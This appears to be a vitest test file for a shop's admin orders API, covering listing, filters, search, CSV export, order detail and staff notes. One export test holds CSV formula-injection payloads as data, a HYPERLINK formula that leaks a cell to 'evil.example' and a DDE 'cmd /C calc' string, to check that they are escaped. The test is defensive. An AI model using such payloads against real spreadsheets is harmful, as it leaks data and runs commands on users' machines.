import { parse } from "csv-parse/sync";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLog, orderEvents, orders } from "@api/db/schema";
import type { TestApi } from "@api/test/harness";
import { ORDER_NOTE_REQUIRED, ORDER_PAGE_SIZE } from "@api/validation/admin-orders";
import { ORDER_STATUSES } from "@api/validation/order-states";
import {
  type Target,
  deliveryAddress,
  findProduct,
  line,
  orderPayload,
  setStock,
  openShop,
} from "@api/resources/customer-orders/order-fixtures";
import { signedInStaff } from "@api/resources/admin/test-helpers";
import { codConfirmationToken } from "@api/resources/cod-confirmation/cod-link";
import { ORDER_CSV_COLUMNS } from "./orders-csv";

let api: TestApi;
let plain: Target;
let coloured: Target;
let ops: Awaited<ReturnType<typeof signedInStaff>>;

beforeAll(async () => {
  api = await openShop({ seed: false, env: { RATE_LIMIT_MULTIPLIER: "100" } });
  plain = await findProduct(api, "PRODUCT");
  coloured = await findProduct(api, "PRODUCT_WITH_COLOR");
  await setStock(api, plain, 10_000, { maximumOrderQuantity: 10, sellingPricePaise: 1_000_000 });
  await setStock(api, coloured, 10_000, { maximumOrderQuantity: 10, sellingPricePaise: 250_050 });
  ops = await signedInStaff(api, "operations");
});
afterAll(() => api.close());

type OrderColumns = Partial<typeof orders.$inferInsert>;

let tagCounter = 0;
/** A word in every shipping email of one test's orders: searching for it shows only them. */
const newTag = () => `tag${process.pid}x${++tagCounter}`;

/** A COD order placed through the shop, then given the columns a test needs straight in the database. */
async function placeOrder(tag: string, columns: OrderColumns = {}, lines = [line(plain, 1)]) {
  const shopper = await api.signIn();
  api.clock.advance(1000);
  const res = await api.post(
    "/customerOrders",
    orderPayload(lines, { email: `${tag}.${shopper.customerId}@example.in` }),
    shopper.token,
  );
  expect(res.status).toBe(200);
  const { _id, orderId } = res.json.body as { _id: string; orderId: string };
  if (Object.keys(columns).length) await api.db.update(orders).set(columns).where(eq(orders.id, _id));
  return { id: _id, orderId, shopper };
}

const list = (query: string, token = ops.token) => api.get(`/admin/orders?${query}`, token);
const orderIds = async (query: string) => {
  const res = await list(query);
  expect(res.status, JSON.stringify(res.json.errors)).toBe(200);
  return (res.json.body as { orderId: string }[]).map((row) => row.orderId);
};
const address = (changes: Partial<Omit<typeof deliveryAddress, "addressType">>) => ({
  ...deliveryAddress,
  addressType: "HOME" as const,
  ...changes,
});

describe("GET /admin/orders", () => {
  it("lists the newest first, 20 a page, each row with what the queue shows", async () => {
    const tag = newTag();
    const made = [];
    for (let i = 0; i < ORDER_PAGE_SIZE + 2; i++) made.push(await placeOrder(tag));
    const first = await list(`q=${tag}`);
    expect(first.json).toMatchObject({ page: 1, totalPages: 2, totalRecords: ORDER_PAGE_SIZE + 2 });
    expect(first.json.body).toHaveLength(ORDER_PAGE_SIZE);
    const newest = made.at(-1)!;
    expect(first.json.body[0]).toEqual({
      orderId: newest.orderId,
      createdAt: expect.any(String),
      orderStatus: "ORDERPLACED",
      paymentMethod: "COD",
      paymentStatus: "PENDING",
      total: 10_000,
      name: "Asha Verma",
      mobile: deliveryAddress.mobile,
      email: `${tag}.${newest.shopper.customerId}@example.in`,
      city: "New Delhi",
      state: "Delhi",
      pincode: "110001",
      awb: null,
      codConfirmedAt: null,
    });
    expect(await orderIds(`q=${tag}&page=2`)).toEqual([made[1].orderId, made[0].orderId]);
    expect((await orderIds(`q=${tag}&sort=oldest`)).slice(0, 2)).toEqual([made[0].orderId, made[1].orderId]);
  });

  it("counts each status under the other filters, whichever status is shown", async () => {
    const tag = newTag();
    await placeOrder(tag);
    await placeOrder(tag, { orderStatus: "CONFIRMED" });
    await placeOrder(tag, { orderStatus: "CONFIRMED" });
    await placeOrder(tag, { orderStatus: "PAYMENT_PENDING", paymentMethod: "Prepaid" });
    const res = await list(`q=${tag}&status=CONFIRMED`);
    expect(res.json.totalRecords).toBe(2);
    expect(res.json.counts).toEqual({
      ...Object.fromEntries(ORDER_STATUSES.map((status) => [status, 0])),
      ORDERPLACED: 1,
      CONFIRMED: 2,
      PAYMENT_PENDING: 1,
      all: 4,
    });
    // Every order, unpaid ones too, unless a status is chosen.
    expect(await orderIds(`q=${tag}&status=all`)).toHaveLength(4);
    expect((await list(`q=${tag}&paymentMethod=COD`)).json.counts).toMatchObject({ all: 3, PAYMENT_PENDING: 0 });
  });

  it("filters by status, payment method and payment status", async () => {
    const tag = newTag();
    const placed = await placeOrder(tag);
    const packed = await placeOrder(tag, { orderStatus: "PACKED" });
    const paid = await placeOrder(tag, { orderStatus: "CONFIRMED", paymentMethod: "Prepaid", paymentStatus: "PAID" });
    const failed = await placeOrder(tag, {
      orderStatus: "PAYMENT_FAILED",
      paymentMethod: "Prepaid",
      paymentStatus: "FAILED",
    });
    expect(await orderIds(`q=${tag}&status=PACKED`)).toEqual([packed.orderId]);
    expect(await orderIds(`q=${tag}&status=PAYMENT_FAILED`)).toEqual([failed.orderId]);
    expect(await orderIds(`q=${tag}&paymentMethod=COD`)).toEqual([packed.orderId, placed.orderId]);
    expect(await orderIds(`q=${tag}&paymentMethod=Prepaid`)).toEqual([failed.orderId, paid.orderId]);
    expect(await orderIds(`q=${tag}&paymentStatus=PAID`)).toEqual([paid.orderId]);
    expect(await orderIds(`q=${tag}&paymentMethod=Prepaid&paymentStatus=PENDING`)).toEqual([]);
  });

  it("filters by India's dates: an order at 23:30 in India belongs to that day", async () => {
    const tag = newTag();
    const late = await placeOrder(tag, { createdAt: new Date("2026-11-20T23:30:00+05:30") });
    const next = await placeOrder(tag, { createdAt: new Date("2026-11-21T00:10:00+05:30") });
    const earlier = await placeOrder(tag, { createdAt: new Date("2026-11-18T12:00:00+05:30") });
    expect(await orderIds(`q=${tag}&from=2026-11-20&to=2026-11-20`)).toEqual([late.orderId]);
    expect(await orderIds(`q=${tag}&from=2026-11-21`)).toEqual([next.orderId]);
    expect(await orderIds(`q=${tag}&to=2026-11-20`)).toEqual([late.orderId, earlier.orderId]);
  });

  it("filters by the shipping address's pincode or state", async () => {
    const tag = newTag();
    const delhi = await placeOrder(tag);
    const mumbai = await placeOrder(tag, {
      shippingAddress: address({ email: `${tag}@example.in`, city: "Mumbai", state: "Maharashtra", pincode: "400001" }),
    });
    const pune = await placeOrder(tag, {
      shippingAddress: address({ email: `${tag}@example.in`, city: "Pune", state: "Maharashtra", pincode: "411001" }),
    });
    expect(await orderIds(`q=${tag}&pincode=400001`)).toEqual([mumbai.orderId]);
    expect(await orderIds(`q=${tag}&state=Maharashtra`)).toEqual([pune.orderId, mumbai.orderId]);
    expect(await orderIds(`q=${tag}&state=Delhi`)).toEqual([delhi.orderId]);
  });

  it("sorts by total, highest or lowest first", async () => {
    const tag = newTag();
    const one = await placeOrder(tag);
    const three = await placeOrder(tag, {}, [line(plain, 3)]);
    const two = await placeOrder(tag, {}, [line(plain, 2)]);
    expect(await orderIds(`q=${tag}&sort=total-high`)).toEqual([three.orderId, two.orderId, one.orderId]);
    expect(await orderIds(`q=${tag}&sort=total-low`)).toEqual([one.orderId, two.orderId, three.orderId]);
  });

  it("finds an order by its number, the shopper's mobile or email (account or address) and the AWB", async () => {
    const tag = newTag();
    const target = await placeOrder(tag, {
      awb: `AWB${tag.toUpperCase()}`,
      shippingAddress: address({ email: `ship.${tag}@example.in`, mobile: "9811122233" }),
    });
    await placeOrder(tag);
    const [account] = await api.db.select().from(orders).where(eq(orders.id, target.id));
    const searches = [
      target.orderId.toLowerCase(),
      `awb${tag}`,
      `SHIP.${tag.toUpperCase()}`,
      "+91 98111 22233",
      target.shopper.mobile,
      `${target.shopper.customerId}@example.in`,
    ];
    for (const q of searches) expect(await orderIds(`q=${encodeURIComponent(q)}`), q).toEqual([account.orderId]);
    expect(await orderIds("q=%25")).toEqual([]);
  });

  it("refuses filters it does not know, each on its field", async () => {
    const res = await list(
      "status=LOST&paymentMethod=Cheque&paymentStatus=MAYBE&from=2026-02-30&pincode=12&state=Atlantis&sort=random",
    );
    expect(res.status).toBe(400);
    expect(res.json.errors).toEqual({
      status: "Status is not one of the allowed values",
      paymentMethod: "Payment method is not one of the allowed values",
      paymentStatus: "Payment status is not one of the allowed values",
      from: "From must be a date like 2026-12-31",
      pincode: "Pincode must be exactly 6 digits",
      state: "State is not one of the allowed values",
      sort: "Sort is not one of the allowed values",
    });
    const backwards = await list("from=2026-11-20&to=2026-11-19");
    expect(backwards.status).toBe(400);
    expect(backwards.json.errors).toEqual({ to: "To must be on or after From" });
  });
});

describe("a COD order the shopper confirmed from the link in its message", () => {
  it("carries when in the queue's row and on the order, and an order staff confirmed carries none", async () => {
    const tag = newTag();
    const byShopper = await placeOrder(tag);
    const byStaff = await placeOrder(tag);
    const [row] = await api.db.select().from(orders).where(eq(orders.id, byShopper.id));
    const confirmed = await api.post(
      `/codConfirmations/${codConfirmationToken(api.deps.env.ORDER_LINK_SECRET, row.orderId, row.createdAt)}`,
    );
    expect(confirmed.status).toBe(200);
    expect((await api.post(`/admin/orders/${byStaff.orderId}/status`, { to: "CONFIRMED" }, ops.token)).status).toBe(
      200,
    );
    const at = api.clock.now().toISOString();

    const rows = (await list(`q=${tag}`)).json.body as {
      orderId: string;
      orderStatus: string;
      codConfirmedAt: string | null;
    }[];
    expect(rows.find((r) => r.orderId === byShopper.orderId)).toMatchObject({
      orderStatus: "CONFIRMED",
      codConfirmedAt: at,
    });
    expect(rows.find((r) => r.orderId === byStaff.orderId)).toMatchObject({
      orderStatus: "CONFIRMED",
      codConfirmedAt: null,
    });
    expect((await api.get(`/admin/orders/${byShopper.orderId}`, ops.token)).json.body.payment.codConfirmedAt).toBe(at);
    expect((await api.get(`/admin/orders/${byStaff.orderId}`, ops.token)).json.body.payment.codConfirmedAt).toBeNull();
  });
});

describe("GET /admin/orders/export", () => {
  it("answers the filtered orders as CSV, a row per line with the order's columns repeated, money in rupees", async () => {
    const tag = newTag();
    const two = await placeOrder(
      tag,
      { couponCode: "FLAT500", awb: `X${tag}`, createdAt: new Date("2026-11-20T23:30:00+05:30") },
      [line(plain, 1), line(coloured, 2)],
    );
    await placeOrder(tag, { orderStatus: "CANCELLED" });
    const res = await api.get(`/admin/orders/export?q=${tag}&status=ORDERPLACED`, ops.token);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="woodnest-orders-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const rows: Record<string, string>[] = parse(res.json as string, { columns: true, bom: true });
    expect(Object.keys(rows[0])).toEqual([...ORDER_CSV_COLUMNS]);
    expect(rows).toHaveLength(2);
    const [order] = await api.db.select().from(orders).where(eq(orders.id, two.id));
    const shared = {
      order_id: two.orderId,
      placed_at: "2026-11-20 23:30",
      status: "ORDERPLACED",
      payment_method: "COD",
      payment_status: "PENDING",
      subtotal: "15001",
      delivery: String(order.deliveryPaise / 100),
      discount: "0",
      total: String(order.totalPaise / 100),
      coupon: "FLAT500",
      customer_name: "Asha Verma",
      customer_mobile: deliveryAddress.mobile,
      customer_email: `${tag}.${two.shopper.customerId}@example.in`,
      city: "New Delhi",
      state: "Delhi",
      pincode: "110001",
      awb: `X${tag}`,
    };
    const bySku = Object.fromEntries(rows.map((row) => [row.quantity, row]));
    expect(bySku["1"]).toMatchObject({ ...shared, colour: "", size: "", unit_price: "10000" });
    expect(bySku["2"]).toMatchObject({ ...shared, unit_price: "2500.5" });
    expect(bySku["2"].colour).not.toBe("");
  });

  it("writes a name or city that looks like a formula behind an apostrophe, and money as numbers", async () => {
    const tag = newTag();
    const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
    const placed = await placeOrder(tag, {
      shippingAddress: address({ email: `${tag}@example.in`, name, city: "+cmd|' /C calc'!A0", state: "-2+3" }),
    });
    const res = await api.get(`/admin/orders/export?q=${tag}`, ops.token);
    expect(res.status).toBe(200);
    const [row]: Record<string, string>[] = parse(res.json as string, { columns: true, bom: true });
    expect(row).toMatchObject({
      order_id: placed.orderId,
      customer_name: `'${name}`,
      city: "'+cmd|' /C calc'!A0",
      state: "'-2+3",
      subtotal: "10000",
    });
  });

  it("refuses the same bad filters as the list", async () => {
    const res = await api.get("/admin/orders/export?status=LOST", ops.token);
    expect(res.status).toBe(400);
    expect(res.json.errors.status).toBe("Status is not one of the allowed values");
  });
});

describe("GET /admin/orders/:orderId", () => {
  it("answers the lines, money, shopper, payment, courier, timeline and the moves legal now", async () => {
    const tag = newTag();
    const made = await placeOrder(tag, {}, [line(plain, 2)]);
    await api.post(`/admin/orders/${made.orderId}/status`, { to: "CONFIRMED", note: "Called the shopper" }, ops.token);
    await api.db
      .update(orders)
      .set({
        awb: `D${tag}`,
        courierName: "Sandbox Courier",
        trackingUrl: "https://track.example/D1",
        couriertOrderId: "11",
        couriertChannelOrderId: "12",
        couriertShipmentId: "13",
      })
      .where(eq(orders.id, made.id));
    const res = await api.get(`/admin/orders/${made.orderId.toLowerCase()}`, ops.token);
    expect(res.status).toBe(200);
    const body = res.json.body;
    expect(body).toMatchObject({
      orderId: made.orderId,
      orderStatus: "CONFIRMED",
      subtotal: 20_000,
      discount: 0,
      couponCode: null,
      shippingAddress: { name: "Asha Verma", pincode: "110001", city: "New Delhi" },
      customer: { _id: made.shopper.customerId, name: "Asha Verma", mobile: made.shopper.mobile },
      payment: {
        method: "COD",
        status: "PENDING",
        gatewayOrderId: null,
        gatewayPaymentId: null,
        paidAt: null,
        codConfirmedAt: null,
      },
      courier: {
        awb: `D${tag}`,
        courierName: "Sandbox Courier",
        trackingUrl: "https://track.example/D1",
        shippedAt: null,
        deliveredAt: null,
        couriertOrderId: "11",
        couriertChannelOrderId: "12",
        couriertShipmentId: "13",
      },
      moves: ["PACKED", "CANCELLED"],
    });
    expect(body.total).toBe(body.subtotal + body.delivery - body.discount);
    expect(body.lines).toEqual([
      expect.objectContaining({ quantity: 2, unitPrice: 10_000, lineTotal: 20_000, colour: null, size: null }),
    ]);
    expect(body.staffTimeline.at(-1)).toEqual({
      kind: "status",
      from: "ORDERPLACED",
      to: "CONFIRMED",
      note: "Called the shopper",
      actor: { type: "staff", name: ops.member.name, staffId: ops.member.id },
      at: expect.any(String),
    });
    expect(body.staffTimeline[0]).toMatchObject({ kind: "status", to: "ORDERPLACED", actor: { type: "customer" } });
  });

  it("answers 404 for an unknown order", async () => {
    const res = await api.get("/admin/orders/FS999999999", ops.token);
    expect(res.status).toBe(404);
    expect(res.json.message).toBe("Order not found");
  });
});

describe("POST /admin/orders/:orderId/notes", () => {
  it("adds an internal note to the timeline with its author, and audits it", async () => {
    const made = await placeOrder(newTag());
    const res = await api.post(
      `/admin/orders/${made.orderId}/notes`,
      { note: "  Shopper asked for delivery after 6 pm  " },
      ops.token,
    );
    expect(res.status).toBe(200);
    expect(res.json.message).toBe(`Note added to order ${made.orderId}`);
    const notes = await api.db
      .select()
      .from(orderEvents)
      .where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note")));
    expect(notes).toEqual([
      expect.objectContaining({
        note: "Shopper asked for delivery after 6 pm",
        actorType: "staff",
        staffId: ops.member.id,
        actorName: ops.member.name,
      }),
    ]);
    const [audit] = await api.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entityId, made.orderId), eq(auditLog.action, "order.note")));
    expect(audit).toMatchObject({
      staffId: ops.member.id,
      entityType: "order",
      after: { note: "Shopper asked for delivery after 6 pm" },
    });
    const detail = await api.get(`/admin/orders/${made.orderId}`, ops.token);
    expect(detail.json.body.staffTimeline.at(-1)).toMatchObject({
      kind: "note",
      note: "Shopper asked for delivery after 6 pm",
      to: null,
    });
    // The shopper never sees staff's notes.
    const shopperView = await api.get(`/customerOrders/${made.orderId}`, made.shopper.token);
    expect(JSON.stringify(shopperView.json)).not.toContain("after 6 pm");
  });

  it("refuses an empty or overlong note on its field, and an unknown order", async () => {
    const made = await placeOrder(newTag());
    const empty = await api.post(`/admin/orders/${made.orderId}/notes`, { note: "   " }, ops.token);
    expect(empty.status).toBe(400);
    expect(empty.json.errors).toEqual({ note: ORDER_NOTE_REQUIRED });
    const long = await api.post(`/admin/orders/${made.orderId}/notes`, { note: "x".repeat(1001) }, ops.token);
    expect(long.json.errors).toEqual({ note: "Note must be at most 1000 characters" });
    expect(
      await api.db
        .select()
        .from(orderEvents)
        .where(and(eq(orderEvents.orderId, made.id), eq(orderEvents.kind, "note"))),
    ).toEqual([]);
    const unknown = await api.post("/admin/orders/FS999999999/notes", { note: "Hello" }, ops.token);
    expect(unknown.status).toBe(404);
  });
});
